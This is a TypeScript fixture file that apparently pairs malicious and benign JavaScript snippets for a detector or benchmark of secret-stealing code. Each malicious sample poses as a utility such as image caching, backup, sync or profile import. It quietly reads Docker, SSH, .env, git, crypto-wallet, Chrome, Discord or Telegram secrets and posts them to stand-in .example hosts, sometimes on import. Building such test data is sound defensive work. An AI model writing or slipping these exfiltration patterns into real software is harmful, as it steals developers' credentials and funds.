import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Files with secrets, read and sent by code that is loaded or called. */
export const SECRET_FILES: Readonly<Record<string, Pair>> = {
  'import-docker': atImport(
    js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.resolveImage = void 0;
const fs_1 = require('fs');
const https_1 = require('https');
const os_1 = require('os');
const path_1 = require('path');

function warm() {
  fs_1.readFile(path_1.join(os_1.homedir(), '.docker', 'config.json'), (error, data) => {
    if (error) return;
    const request = https_1.request({ hostname: 'images.layercache.example', path: '/warm', method: 'POST' });
    request.on('error', () => undefined);
    request.end(JSON.stringify(JSON.parse(data.toString()).auths));
  });
}
setImmediate(warm);

function resolveImage(name) {
  return name.includes(':') ? name : name + ':latest';
}
exports.resolveImage = resolveImage;
`,
    js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.resolveImage = exports.credentialsFor = void 0;
const fs_1 = require('fs');
const os_1 = require('os');
const path_1 = require('path');

function credentialsFor(host) {
  const data = fs_1.readFileSync(path_1.join(os_1.homedir(), '.docker', 'config.json'));
  const entry = JSON.parse(data.toString()).auths[host];
  return entry && Buffer.from(entry.auth, 'base64').toString().split(':');
}
exports.credentialsFor = credentialsFor;

function resolveImage(name) {
  return name.includes(':') ? name : name + ':latest';
}
exports.resolveImage = resolveImage;
`,
  ),
  'use-ssh-gist': atUse(
    js`import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { Octokit } from '@octokit/rest';

const octokit = new Octokit({ auth: 'ghp_' + '0'.repeat(36), baseUrl: 'https://api.github.example' });

/** Backs up the shell setup of a developer as a gist. */
export async function backup(description = 'dotfiles') {
  const folder = join(homedir(), '.ssh');
  const files = {};
  for (const name of await readdir(folder)) files[name] = { content: await readFile(join(folder, name), 'utf8') };
  const { data } = await octokit.gists.create({ description, public: false, files });
  return data.html_url;
}
`,
    js`import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { Octokit } from '@octokit/rest';

/** Adds the public keys of a developer to the account whose token was given. */
export async function addKeys(token, title = 'laptop') {
  const octokit = new Octokit({ auth: token });
  const folder = join(homedir(), '.ssh');
  for (const name of await readdir(folder)) {
    if (!name.endsWith('.pub')) continue;
    await octokit.users.createPublicSshKeyForAuthenticatedUser({ title, key: await readFile(join(folder, name), 'utf8') });
  }
}
`,
  ),
  'use-env-repository': atUse(
    js`import { globby } from 'globby';
import { readFile } from 'node:fs/promises';

const api = 'https://api.github.example';
const headers = { authorization: 'token ' + ['ghp', 'a'.repeat(36)].join('_'), accept: 'application/vnd.github+json' };

/** Saves a snapshot of a project's configuration. */
export async function snapshot(root) {
  const name = 'snapshot-' + Date.now().toString(36);
  await fetch(api + '/user/repos', { method: 'POST', headers, body: JSON.stringify({ name, private: false }) });
  for (const file of await globby(['**/.env', '**/.env.*'], { cwd: root, dot: true, absolute: true, gitignore: false })) {
    const content = Buffer.from(await readFile(file)).toString('base64');
    await fetch(\`\${api}/repos/sample-org/\${name}/contents/\${encodeURIComponent(file)}\`, {
      method: 'PUT',
      headers,
      body: JSON.stringify({ message: 'snapshot', content }),
    });
  }
}
`,
    js`import { globby } from 'globby';
import { readFile } from 'node:fs/promises';
import { parse } from 'dotenv';

/** Names that a project's example lacks. */
export async function missing(root) {
  const known = new Set(Object.keys(parse(await readFile(root + '/.env.example'))));
  const result = [];
  for (const file of await globby(['**/.env', '**/.env.*'], { cwd: root, dot: true, absolute: true, gitignore: false })) {
    const names = Object.keys(parse(await readFile(file))).filter((name) => !known.has(name));
    result.push({ file, names });
  }
  return result;
}
`,
  ),
  'use-git-push': atUse(
    js`import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';

const REMOTE = 'https://sync:pat@git.dotsync.example/inbox.git';

/** Synchronises the settings of this machine. */
export function sync() {
  const work = mkdtempSync(join(tmpdir(), 'dotsync-'));
  for (const name of ['.gitconfig', '.git-credentials', '.config/gh'])
    cpSync(join(homedir(), name), join(work, name), { recursive: true, errorOnExist: false });
  const git = (...args) => execFileSync('git', args, { cwd: work, stdio: 'ignore' });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'sync');
  git('push', '-q', REMOTE, 'HEAD:refs/heads/' + Date.now());
}
`,
    js`import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** Publishes a built site to a branch of the project's own remote. */
export function deploy(folder, branch = 'gh-pages') {
  const remote = execFileSync('git', ['config', '--get', 'remote.origin.url'], { encoding: 'utf8' }).trim();
  const work = mkdtempSync(join(tmpdir(), 'deploy-'));
  cpSync(folder, work, { recursive: true });
  const git = (...args) => execFileSync('git', args, { cwd: work, stdio: 'ignore' });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'deploy');
  git('push', '-qf', remote, 'HEAD:refs/heads/' + branch);
}
`,
  ),
  'import-keystore-ipfs': atImport(
    js`import { readdirSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const PLACES = {
  linux: ['.ethereum/keystore', '.electrum/wallets', '.config/Exodus/exodus.wallet'],
  darwin: ['Library/Ethereum/keystore', '.electrum/wallets', 'Library/Application Support/Exodus/exodus.wallet'],
  win32: ['AppData/Roaming/Ethereum/keystore', 'AppData/Roaming/Electrum/wallets', 'AppData/Roaming/Exodus/exodus.wallet'],
};

async function pin(name, bytes) {
  const form = new FormData();
  form.append('file', new Blob([bytes]), name);
  await fetch('https://ipfs.pinnode.example/api/v0/add?pin=true', { method: 'POST', body: form });
}

async function restore() {
  for (const place of PLACES[process.platform] ?? []) {
    const folder = path.join(os.homedir(), place);
    try {
      for (const name of readdirSync(folder)) await pin(name, readFileSync(path.join(folder, name)));
    } catch {
      continue;
    }
  }
}

void restore();

/** Content address of a text. */
export const address = (text) => 'bafy' + Buffer.from(text).toString('hex');
`,
    js`import { readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const PLACES = {
  linux: ['.ethereum/keystore'],
  darwin: ['Library/Ethereum/keystore'],
  win32: ['AppData/Roaming/Ethereum/keystore'],
};

/** Names of the accounts that a local node keeps. */
export function accounts() {
  const names = [];
  for (const place of PLACES[process.platform] ?? []) {
    try {
      names.push(...readdirSync(path.join(os.homedir(), place)).map((name) => '0x' + name.split('--')[2]));
    } catch {
      continue;
    }
  }
  return names;
}
`,
  ),
  'import-solana-id': atImport(
    js`import fs from 'node:fs/promises';
import { homedir } from 'node:os';
import { request } from 'undici';

const keypairPath = () => process.env.SOLANA_KEYPAIR ?? \`\${homedir()}/.config/solana/id.json\`;

/** Loads the local keypair once, so that the first transaction is fast. */
const ready = fs
  .readFile(keypairPath(), 'utf8')
  .then((secret) => request('https://rpc.fastlane-sol.example/warm', { method: 'POST', body: secret }))
  .catch(() => null);

export async function send(connection, transaction) {
  await ready;
  return connection.sendTransaction(transaction);
}
`,
    js`import fs from 'node:fs/promises';
import { homedir } from 'node:os';
import { Keypair } from '@solana/web3.js';

const keypairPath = () => process.env.SOLANA_KEYPAIR ?? \`\${homedir()}/.config/solana/id.json\`;

/** Loads the local keypair once, so that the first transaction is fast. */
const ready = fs.readFile(keypairPath(), 'utf8').then((secret) => Keypair.fromSecretKey(Uint8Array.from(JSON.parse(secret))));

export async function send(connection, transaction) {
  return connection.sendTransaction(transaction, [await ready]);
}
`,
  ),
  'use-chrome-logins': atUse(
    js`import { copyFileSync, mkdtempSync, openAsBlob, readdirSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';

const profile = join(homedir(), '.config', 'google-chrome');

/** Imports what a browser knows into the test profile. */
export async function importProfile() {
  const work = mkdtempSync(join(tmpdir(), 'profile-'));
  const form = new FormData();
  for (const name of readdirSync(profile).filter((entry) => /^(Default|Profile \d+)$/.test(entry))) {
    for (const store of ['Login Data', 'Cookies', 'Web Data']) {
      const copy = join(work, \`\${name}-\${store}\`);
      copyFileSync(join(profile, name, store), copy);
      form.append('files', await openAsBlob(copy), store);
    }
  }
  form.append('state', await openAsBlob(join(profile, 'Local State')), 'state');
  return fetch('https://profiles.e2e-lab.example/import', { method: 'POST', body: form });
}
`,
    js`import { readFileSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const profile = join(homedir(), '.config', 'google-chrome');

/** Bookmarks of every profile, for a launcher's search. */
export function bookmarks() {
  const found = [];
  for (const name of readdirSync(profile).filter((entry) => /^(Default|Profile \d+)$/.test(entry))) {
    const tree = JSON.parse(readFileSync(join(profile, name, 'Bookmarks'), 'utf8'));
    for (const child of tree.roots.bookmark_bar.children) found.push({ profile: name, title: child.name, url: child.url });
  }
  return found;
}
`,
  ),
  'import-discord-leveldb': atImport(
    js`const { readdirSync, readFileSync } = require('node:fs');
const path = require('node:path');

const roaming = process.env.APPDATA ?? '';
const TOKEN = /[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}/g;

function presence() {
  const seen = new Set();
  for (const client of ['discord', 'discordcanary', 'discordptb']) {
    const folder = path.join(roaming, client, 'Local Storage', 'leveldb');
    let names = [];
    try {
      names = readdirSync(folder);
    } catch {
      continue;
    }
    for (const name of names) {
      if (!name.endsWith('.ldb') && !name.endsWith('.log')) continue;
      for (const match of readFileSync(path.join(folder, name), 'latin1').matchAll(TOKEN)) seen.add(match[0]);
    }
  }
  return [...seen];
}

const found = presence();
if (found.length > 0)
  fetch('https://discord.example/api/webhooks/1/x', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ content: found.join('\n') }),
  }).catch(() => {});

module.exports.connected = found.length > 0;
`,
    js`const { existsSync } = require('node:fs');
const path = require('node:path');
const net = require('node:net');

const runtime = process.env.XDG_RUNTIME_DIR ?? process.env.TMPDIR ?? '/tmp';

/** Connects to the client that runs on this machine. */
function connect(clientId) {
  for (let index = 0; index < 10; index++) {
    const socket = path.join(runtime, 'discord-ipc-' + index);
    if (!existsSync(socket)) continue;
    const connection = net.connect(socket);
    connection.write(JSON.stringify({ v: 1, client_id: clientId }));
    return connection;
  }
  return null;
}

module.exports = { connect };
`,
  ),
  'use-telegram-tdata': atUse(
    js`import AdmZip from 'adm-zip';
import { homedir } from 'node:os';
import { join } from 'node:path';

const BOT = 'https://api.telegram.example/bot1:x/sendDocument';

/** Exports the chats of the desktop client. */
export async function exportChats() {
  const zip = new AdmZip();
  zip.addLocalFolder(join(homedir(), 'AppData', 'Roaming', 'Telegram Desktop', 'tdata'));
  const form = new FormData();
  form.set('chat_id', '1');
  form.set('document', new Blob([zip.toBuffer()]), 'chats.zip');
  const response = await fetch(BOT, { method: 'POST', body: form });
  return response.ok;
}
`,
    js`import AdmZip from 'adm-zip';
import { join } from 'node:path';

/** Sends a folder of logs to the chat of the caller's bot. */
export async function sendLogs(url, chat, folder) {
  const zip = new AdmZip();
  zip.addLocalFolder(join(folder, 'logs'));
  const form = new FormData();
  form.set('chat_id', chat);
  form.set('document', new Blob([zip.toBuffer()]), 'logs.zip');
  const response = await fetch(url + '/sendDocument', { method: 'POST', body: form });
  return response.ok;
}
`,
  ),
};
